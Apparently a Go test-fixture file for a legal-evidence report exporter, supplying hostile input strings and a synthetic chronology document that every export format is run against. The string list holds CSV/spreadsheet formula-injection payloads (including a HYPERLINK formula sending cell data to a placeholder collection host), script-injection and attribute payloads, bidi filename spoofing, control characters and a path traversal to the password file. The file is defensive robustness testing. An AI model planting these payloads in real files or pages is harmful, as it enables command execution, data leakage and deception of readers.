// SPDX-License-Identifier: Apache-2.0

// Package reporttest is the suite that every format of an export passes, and the
// documents it passes it with.
package reporttest

import (
	"context"
	"fmt"
	"iter"
	"strconv"
	"strings"
	"time"

	"dossier/report"
)

// Texts are texts that a suspect can put into a file name, a subject or a note, and
// that have broken reports: by name.
var Texts = []struct{ Name, Text string }{
	{"formula", `=cmd|' /C calc'!A0`},
	{"formula-link", `=HYPERLINK("http://collect.example/?d="&A1,"invoice")`},
	{"formula-plus", "+1+cmd|' /C calc'!A0"},
	{"formula-minus", "-2+3+cmd|' /C calc'!A0"},
	{"formula-at", "@SUM(1+1)*cmd|' /C calc'!A0"},
	{"formula-tab", "\t=1+1"},
	{"formula-return", "\r=1+1"},
	{"formula-full-width", "＝1+1"},
	{"number", "0123456789012345678901234567890"},
	{"number-exponent", "1E5"},
	{"date", "3-4"},
	{"truth", "TRUE"},
	{"script", `<script>alert("x")</script><img src=x onerror=alert(1)>`},
	{"attribute", `" onmouseover="alert(1)" x='y'`},
	{"entity", `&lt;b&gt; &amp; &#x3c;script&#x3e; &nbsp;`},
	{"cdata", `]]></t></si><!-- --> <?xml?> -->`},
	{"pdf", `) Tj ET (\) \\( endstream endobj`},
	{"escape", `_x000D_ _x0041_ \x1b[31m \u202e`},
	{"load-file", "þ\x14þ®þ"},
	{"bidi", "invoice\u202exslx.exe\u202c \u2066nested\u2069"},
	{"zero-width", "pay\u200broll\u200d\ufeff\u2060\u00ad.xlsx"},
	{"controls", "bell\a null\x00 escape\x1b[2J\x1b]0;title\x07 back\b delete\x7f"},
	{"controls-c1", "next\u0085line\u009b31m"},
	{"separators", "one\u2028two\u2029three"},
	{"not-xml", "\ufffe\uffff\u0001\u000b\u000c\u001f"},
	{"not-utf8", "lone \xed\xa0\x80 cut \xe2\x82 high \xff"},
	{"lines", "first\nsecond\r\nthird\rfourth"},
	{"blanks", "  two  before and after  "},
	{"quotes", `a "quoted", 'text'; with, commas`},
	{"long", strings.Repeat("a quite long text of many words ", 1250)},
	{"unbroken", strings.Repeat("unbroken", 400)},
	{"wide", strings.Repeat("漢", 300)},
	{"chinese", "客户名单 — 导出.xlsx"},
	{"japanese", "顧客リスト「最終」ｶﾀｶﾅ"},
	{"korean", "고객 목록 최종"},
	{"arabic", "قائمة العملاء ١٢٣"},
	{"hebrew", "רשימת לקוחות 123"},
	{"thai", "รายชื่อลูกค้า"},
	{"hindi", "ग्राहक सूची"},
	{"greek-cyrillic", "Κατάλογος Список"},
	{"combining", "Zoe\u0308 e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 n\u0303"},
	{"emoji", "👩‍👩‍👧‍👦 🇬🇧 👍🏽 ✅"},
	{"astral", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𠮷野家"},
	{"private", "\ue000 \U000f0000 unassigned \U000e0fff"},
	{"sheet-name", `[a]:*?/\'history'`},
	{"path", `..\..\windows\system32\..\..\etc/passwd`},
	{"empty", ""},
}

// start is when the first row of Hostile was.
var start = time.Date(2024, 4, 14, 12, 0, 7, 0, time.UTC)

// Hostile is a document with every section and every kind of block, and with a number
// of rows whose cells hold Texts in turn. The rows are made as they are walked through:
// a great number costs nothing.
func Hostile(rows int) *report.Document {
	zone := time.FixedZone("EDT", -4*60*60)
	d := &report.Document{
		Title: "Chronology of recorded events: Mike Hall", Caption: "Larkfield Instruments v. Hall & <Others>",
		Profile: report.Counsel, Stamp: "PRIVILEGED & CONFIDENTIAL - ATTORNEY WORK PRODUCT - PREPARED AT THE DIRECTION OF COUNSEL",
		ZoneNote: "Times shown in America/New_York (UTC-04:00 EDT); UTC and original values in columns of their own",
		ExportID: strings.Repeat("0123456789abcdef", 4), Exhibit: "A", Bates: &report.Bates{Prefix: "ACME", First: 1, Digits: 6},
		AsOf: time.Date(2024, 5, 13, 22, 42, 7, 0, time.UTC), Language: "en", Paper: report.A4,
		Columns: report.Counsel.Columns(), Count: int64(rows), Rows: hostileRows{rows, zone},
	}
	d.Front = []report.Section{cover(), scope(), answer(), cast(), contrary(), {Key: report.SectionChronology, Title: "Chronology",
		Blocks: []report.Block{report.Paragraph{Text: "Every event in scope, in the order of time."}}}}
	d.Back = back()
	return d
}

func cover() report.Section {
	return report.Section{Key: report.SectionCover, Title: "Chronology of recorded events", Blocks: []report.Block{
		report.Paragraph{Text: "Larkfield Instruments v. Hall & <Others>", Lead: true},
		report.Facts{List: []report.Fact{
			{Label: "Question", Value: "What did Mike Hall do in his last 30 days?"},
			{Label: "Export", Value: strings.Repeat("0123456789abcdef", 4), Note: "the digest of what this export was made of"},
			{Label: "Hostile label <b>", Value: "=1+1 \u202eabc <script>", Note: "note & <i>"},
			{Label: "Nothing", Value: ""},
		}},
	}}
}

func scope() report.Section {
	return report.Section{Key: report.SectionScope, Title: "Selection and completeness", Blocks: []report.Block{
		report.Paragraph{Text: "read = parsed + rejected + duplicate + blank"},
		report.Table{Title: "Sources", Head: []string{"Source", "Records", "SHA-256"}, Right: []bool{false, true, false}, Widths: []float64{4, 1, 3},
			Rows: manyRows(90)},
		report.Table{Head: []string{"Reason", "Excluded"}, Rows: nil},
	}}
}

func manyRows(n int) [][]string {
	var rows [][]string
	for i := range n {
		text := Texts[i%len(Texts)].Text
		rows = append(rows, []string{text, strconv.Itoa(i), fmt.Sprintf("%064x", i)})
	}
	return rows
}

func answer() report.Section {
	return report.Section{Key: report.SectionAnswer, Title: "The answer on one page", Blocks: []report.Block{
		report.Paragraph{Text: "What did Mike Hall do in his last 30 days?", Lead: true},
		report.Facts{List: []report.Fact{{Label: "Pages printed", Value: "106", Note: "items MH-0001, MH-0007"}}},
		report.Strip{Title: "270 days", Days: days(), Legend: "darker means more records; outlined days lie in the window; a cross means that no source has a record"},
		report.Paragraph{Text: "Times are as of 2024-05-13.", Fine: true},
	}}
}

func days() []report.StripDay {
	var list []report.StripDay
	for i := range 270 {
		day := start.AddDate(0, 0, i-240)
		list = append(list, report.StripDay{Day: day.Format(time.DateOnly), Count: int64(i % 4 * 7), Level: i % 4, Window: i >= 240, NoLog: i%31 == 0})
	}
	return list
}

func cast() report.Section {
	return report.Section{Key: report.SectionCast, Title: "Persons and accounts", Blocks: []report.Block{
		report.Table{Title: "Accounts", Head: []string{"Person", "Account", "Class"}, Rows: [][]string{{"Mike Hall", "email:mike.hall@larkfield.example", "A"}}},
	}}
}

func contrary() report.Section {
	return report.Section{Key: report.SectionContrary, Title: "What these records do not show", Blocks: []report.Block{
		report.Paragraph{Text: "The log records that the report was exported; it does not record what was done with the file."},
	}}
}

func back() []report.Section {
	return []report.Section{
		{Key: report.SectionExhibits, Title: "Exhibits: source record by item", Blocks: []report.Block{
			report.Paragraph{Text: "The verbatim record of every item."},
			report.Verbatim{Text: "2024-05-13 18:42:07\t\"mike\"\x00\x1b[31m\n" + strings.Repeat("x", 500) + "\n\n\u202eend"},
		}},
		{Key: report.SectionMethod, Title: "Method", Blocks: []report.Block{
			report.Facts{List: []report.Fact{{Label: "Program", Value: "dossier development build"}}},
			report.Paragraph{Text: strings.Repeat("How each number was computed. ", 200)},
		}},
		{Key: report.SectionCustody, Title: "Extract of the custody log", Blocks: []report.Block{
			report.Table{Head: []string{"No.", "Time", "Who", "What"}, Rows: [][]string{{"1", "2024-05-14T09:00:00Z", "analyst", "create"}}},
		}},
		{Key: report.SectionVerify, Title: "How to verify this export", Blocks: []report.Block{
			report.Steps{List: []report.Step{
				{Text: "Compare the digests.", Command: "sha256sum -c SHA256SUMS"},
				{Text: "Compare with the evidence.", Command: `dossier -C acme.case verify export & "quoted" <name>`},
				{Text: "Read the result."},
			}},
		}},
		{Key: report.SectionGlossary, Title: "Glossary", Blocks: []report.Block{
			report.Table{Head: []string{"Code", "Meaning"}, Rows: [][]string{{"crm.report.export", "report exported"}}},
		}},
	}
}

// hostileRows are made as they are asked for.
type hostileRows struct {
	count int
	zone  *time.Location
}

// All yields the rows.
func (h hostileRows) All(ctx context.Context) iter.Seq2[*report.Row, error] {
	return func(yield func(*report.Row, error) bool) {
		columns := report.Counsel.Columns()
		for i := range h.count {
			if err := ctx.Err(); err != nil {
				yield(nil, err)
				return
			}
			if !yield(hostileRow(i, columns, h.zone), nil) {
				return
			}
		}
	}
}

// hostileRow has one text in every column that holds text of the evidence. Some rows
// have no time, and some the time of the row before.
func hostileRow(i int, columns []report.Column, zone *time.Location) *report.Row {
	text := Texts[i%len(Texts)]
	at := start.Add(time.Duration(i/2) * 97 * time.Second)
	r := &report.Row{Number: int64(i + 1), Item: fmt.Sprintf("MH-%04d", i+1), Time: at.In(zone), Source: "print/papercut.csv line " + strconv.Itoa(i+2),
		Raw: "verbatim " + text.Text, RawDigest: fmt.Sprintf("%064x", i)}
	local, utc := at.In(zone).Format("2006-01-02 (Mon) 15:04:05 MST (UTC-07:00)"), at.Format(time.RFC3339)
	if i%50 == 49 {
		r.Time, local, utc = time.Time{}, "", ""
	}
	fixed := map[string]string{
		report.ColumnItem: r.Item, report.ColumnTimeLocal: local, report.ColumnTimeUTC: utc, report.ColumnPerson: "Mike Hall", report.ColumnClass: "A",
		report.ColumnStatement: "Account 'mhall' printed document " + text.Name + " " + text.Text, report.ColumnInitiated: "user",
		report.ColumnSource: r.Source, report.ColumnDigest: r.RawDigest, report.ColumnKind: "print.job", report.ColumnVerbatim: r.Raw,
		report.ColumnByteOffset: strconv.Itoa(i * 100), report.ColumnByteLength: "100", report.ColumnRecord: strconv.Itoa(i + 2),
		report.ColumnSequence: strconv.Itoa(i%2 + 1), report.ColumnPrecision: "s", report.ColumnRecordKind: "machine", report.ColumnExhibit: fmt.Sprintf("A-%d", i+1),
	}
	for _, c := range columns {
		cell, ok := fixed[c.Key]
		if !ok {
			cell = text.Text
		}
		r.Cells = append(r.Cells, cell)
	}
	return r
}
